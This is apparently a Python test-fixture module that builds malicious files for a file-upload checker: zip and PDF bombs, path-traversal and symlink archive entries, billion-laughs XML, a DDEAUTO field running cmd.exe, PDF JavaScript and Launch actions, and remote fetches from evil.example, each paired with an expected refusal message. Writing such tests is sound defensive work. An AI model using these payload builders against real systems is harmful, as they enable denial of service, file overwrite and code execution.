"""Files made to do harm, each with the words of its refusal: made here when asked for, so that none lies about."""

import io
import zipfile
import zlib
from collections.abc import Callable, Mapping

from tests.attacks.wholesome import RELATION, RELATIONS, TYPES, W, document, fetching, jpeg, mail, pdf, png

Made = tuple[str, bytes, str]
"""A file's name, what is in it, and what is said about it."""

EICAR = "".join(("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE", "!$H+H*"))
"""The harmless file that every virus scanner takes for a virus; in pieces, so that none finds this one."""

LARGE, WITHIN, OUT, DAMAGED = "far more", "another packed file", "lead out of it", "damaged"


def zipped(*parts: tuple[str | zipfile.ZipInfo, bytes | str], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", kind) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", "<x/>")
        for name, content in parts:
            archive.writestr(name, content)
    return made.getvalue()


def symbolic_link() -> bytes:
    link = zipfile.ZipInfo("word/media/passwords")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    return zipped((link, "/etc/passwd"))


def overlapping() -> bytes:
    """Two parts in the directory that are one in the file: each more costs forty bytes and unpacks to all of it."""
    good = bytearray(zipped(("word/media/a.bin", bytes(3000)), ("word/media/b.bin", bytes(3000))))
    first, second = good.find(b"PK\x01\x02"), good.rfind(b"PK\x01\x02")
    entries = [at for at in range(first, second + 1) if good[at : at + 4] == b"PK\x01\x02"]
    good[entries[-1] + 42 : entries[-1] + 46] = good[entries[-2] + 42 : entries[-2] + 46]
    return bytes(good)


def lying() -> bytes:
    """A part that is declared to be one byte and is a megabyte."""
    made = bytearray(zipped(("word/media/a.bin", bytes(1_000_000))))
    at = made.rfind(b"PK\x01\x02")
    made[at + 24 : at + 28] = (1).to_bytes(4, "little")
    return bytes(made)


def twice() -> bytes:
    made = io.BytesIO(document())
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("word/Document.xml", "<other/>")
    return made.getvalue()


def locked() -> bytes:
    made = bytearray(document())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        where = made.find(mark)
        while where >= 0:
            made[where + at] |= 1
            where = made.find(mark, where + 4)
    return bytes(made)


def nested(depth: int) -> bytes:
    made = document()
    for _ in range(depth):
        made = document(more={"word/embeddings/inner.docx": made})
    return made


def field(words: str) -> bytes:
    half = len(words) // 2
    runs = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in (words[:half], words[half:]))
    return document(runs)


def entities(levels: int = 9) -> str:
    """Ten to the ninth laughs from a few hundred bytes."""
    lines = ['<!ENTITY l0 "ha">'] + [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels + 1)]
    return f"<?xml version='1.0'?><!DOCTYPE x [{''.join(lines)}]><w:document xmlns:w='{W}'>&l{levels};</w:document>"


def packed_objects(inside: bytes, more: bytes = b"") -> bytes:
    packed = zlib.compress(inside)
    head = b"2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode%s/Length %d>>stream\n" % (more, len(packed))
    return pdf(head + packed + b"\nendstream endobj")


def many_streams() -> bytes:
    """As many beginnings as fit, and no end: what looks for the end each time never comes to one."""
    return pdf(b"2 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" * 60_000)


def deep_mail() -> bytes:
    parts = [f"Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n" for n in range(5_000)]
    return b"From: a@b.example\r\n" + "".join(parts).encode()


DOCUMENTS: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "a bomb": (lambda: zipped(("word/media/a.bin", bytes(60_000_000))), LARGE),
    "too many parts": (lambda: zipped(*[(f"word/{n}.bin", "x") for n in range(2_001)]), LARGE),
    "parts that overlap": (overlapping, LARGE),
    "a part larger than it says": (lying, DAMAGED),
    "a bomb in a document in a document": (
        lambda: document(more={"word/embeddings/a.docx": zipped(("word/b.bin", bytes(20_000_000)))}),
        LARGE,
    ),
    "deeper than a document in a document": (lambda: nested(2), WITHIN),
    "a zip in it": (lambda: document(more={"word/a.bin": zipped(("a.txt", "x"))[:4] + b"rest"}), DAMAGED),
    "a program packed otherwise": (lambda: document(more={"word/a.bin": b"Rar!\x1a\x07\x01\x00"}), WITHIN),
    "an old Office file in it": (
        lambda: document(more={"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
        WITHIN,
    ),
    "a program": (lambda: document(more={"word/media/a.png": b"MZ" + bytes(60)}), "a program inside"),
    "a way up": (lambda: zipped(("../../etc/cron.d/x", "x")), OUT),
    "a way from the root": (lambda: zipped(("/etc/cron.d/x", "x")), OUT),
    "a way as Windows writes it": (lambda: zipped(("word\\..\\..\\x", "x")), OUT),
    "a drive": (lambda: zipped(("C:x", "x")), OUT),
    "a symbolic link": (symbolic_link, OUT),
    "two parts of one name": (twice, "two parts"),
    "locked": (locked, "password"),
    "cut off": (lambda: document()[:-30], DAMAGED),
    "macros": (lambda: document(more={"word/vbaProject.bin": "x"}), "macros"),
    "macros of another name": (
        lambda: document(more={"[Content_Types].xml": "<x>application/vnd.ms-word.document.macroEnabled</x>"}),
        "macros",
    ),
    "old macros of Excel": (lambda: document(more={"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    "controls": (lambda: document(more={"word/activeX/activeX1.xml": "<x/>"}), "macros"),
    "a template from elsewhere": (
        lambda: fetching("attachedTemplate", "http://evil.example/a.dotm"),
        "attachedTemplate",
    ),
    "a picture from elsewhere": (lambda: fetching("image", "\\\\evil.example\\a.png"), "image"),
    "a picture that looks like a link": (lambda: fetching("image", "http://evil.example/hyperlink"), "image"),
    "another file as a frame": (lambda: fetching("frame", "file:///etc/passwd"), "frame"),
    "entities": (lambda: document(more={"word/document.xml": entities()}), "document type"),
    "entities in UTF-16": (lambda: document(more={"word/document.xml": entities().encode("utf-16")}), "document type"),
    "entities in UTF-7": (
        lambda: document(more={"word/a.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-+ACE-DOCTYPE x+AD4-'}),
        "not written in UTF-8",
    ),
    "a field that starts a program": (lambda: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "a field"),
    "a field that fetches": (lambda: field('INCLUDEPICTURE "http://evil.example/a.png"'), "a field"),
    "relations that are none": (lambda: document(more={"word/_rels/document.xml.rels": "<x"}), DAMAGED),
    "relations with entities": (
        lambda: document(more={"_rels/.rels": "<!DOCTYPE x>" + RELATIONS.format(RELATION.format("image", "x"))}),
        "document type",
    ),
}

PDFS: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "JavaScript": (lambda: pdf(b"2 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj"), "JavaScript"),
    "JavaScript written with numbers": (lambda: pdf(b"2 0 obj<</S/J#61v#61Script/JS(1)>>endobj"), "JavaScript"),
    "JavaScript in packed objects": (lambda: packed_objects(b"<</S/JavaScript/JS(1)>>"), "JavaScript"),
    "JavaScript after what looks packed": (
        lambda: pdf(b"% >>stream\n2 0 obj<</S/JavaScript>>endobj\nendstream"),
        "JavaScript",
    ),
    "a command": (lambda: pdf(b"2 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "starts a program"),
    "a file inside": (lambda: pdf(b"2 0 obj<</Type/EmbeddedFile>>endobj"), "another file"),
    "a form that is a program": (lambda: pdf(b"2 0 obj<</XFA [1 0 R]>>endobj"), "XFA"),
    "a form that is sent away": (lambda: pdf(b"2 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj"), "elsewhere"),
    "locked": (lambda: pdf(b"trailer<</Encrypt 5 0 R>>"), "locked"),
    "packed otherwise": (lambda: pdf(b"2 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\nx"), "cannot be checked"),
    "packed as predicted": (
        lambda: packed_objects(b"x", b"/DecodeParms<</Predictor 12>>"),
        "cannot be checked",
    ),
    "packed nonsense": (
        lambda: pdf(b"2 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\nnonsense"),
        "cannot be checked",
    ),
    "a bomb": (lambda: packed_objects(bytes(60_000_000)), LARGE),
    "beginnings without end": (many_streams, "cannot be checked"),
    "without its end": (lambda: pdf(end=b""), "its end is missing"),
    "a document behind it": (lambda: pdf() + document(), "two kinds"),
}

OTHERS: Mapping[str, Made] = {
    "a page as a picture": ("a.png", b"<html><script>alert(1)</script>", "its content is not"),
    "a drawing with a script": ("a.svg", b'<svg onload="alert(1)"/>', "not taken"),
    "a page": ("a.html", b"<script>alert(1)</script>", "not taken"),
    "a picture with a page behind it": ("a.png", png(behind=b"<script>alert(1)</script>"), "its content is not"),
    "a picture with a document behind it": ("a.jpg", jpeg(behind=document()), "two kinds"),
    "a picture of enormous size": ("a.png", png(60_000, 60_000), "far larger"),
    "another of enormous size": ("a.jpg", jpeg(65_000, 65_000), "far larger"),
    "half a picture": ("a.png", png()[:-6], "its content is not"),
    "no picture": ("a.jpeg", b"\xff\xd8\xff\xe0", "its content is not"),
    "a program with another name": ("report.pdf", b"MZ" + bytes(80), "its content is not"),
    "an ending that only seems to be one": ("report.pdf.exe", pdf(), "not taken"),
    "an e-mail with a program": ("a.eml", mail("run.exe", b"MZ" + bytes(60)), "attached to the e-mail"),
    "an e-mail with a page": ("a.eml", mail("a.html", b"<script>alert(1)</script>"), "attached to the e-mail"),
    "an e-mail with macros": ("a.eml", mail("a.docx", document(more={"word/vbaProject.bin": "x"})), "macros"),
    "an e-mail in an e-mail in an e-mail": ("a.eml", deep_mail(), "too many parts"),
    "an OpenDocument bomb": ("a.odt", zipped(("content.xml", bytes(20_000_000))), "not taken"),
}


def every() -> dict[str, Made]:
    """All of them by name."""
    found = {f"document: {name}": ("a.docx", make(), said) for name, (make, said) in DOCUMENTS.items()}
    found |= {f"PDF: {name}": ("a.pdf", make(), said) for name, (make, said) in PDFS.items()}
    return found | dict(OTHERS)
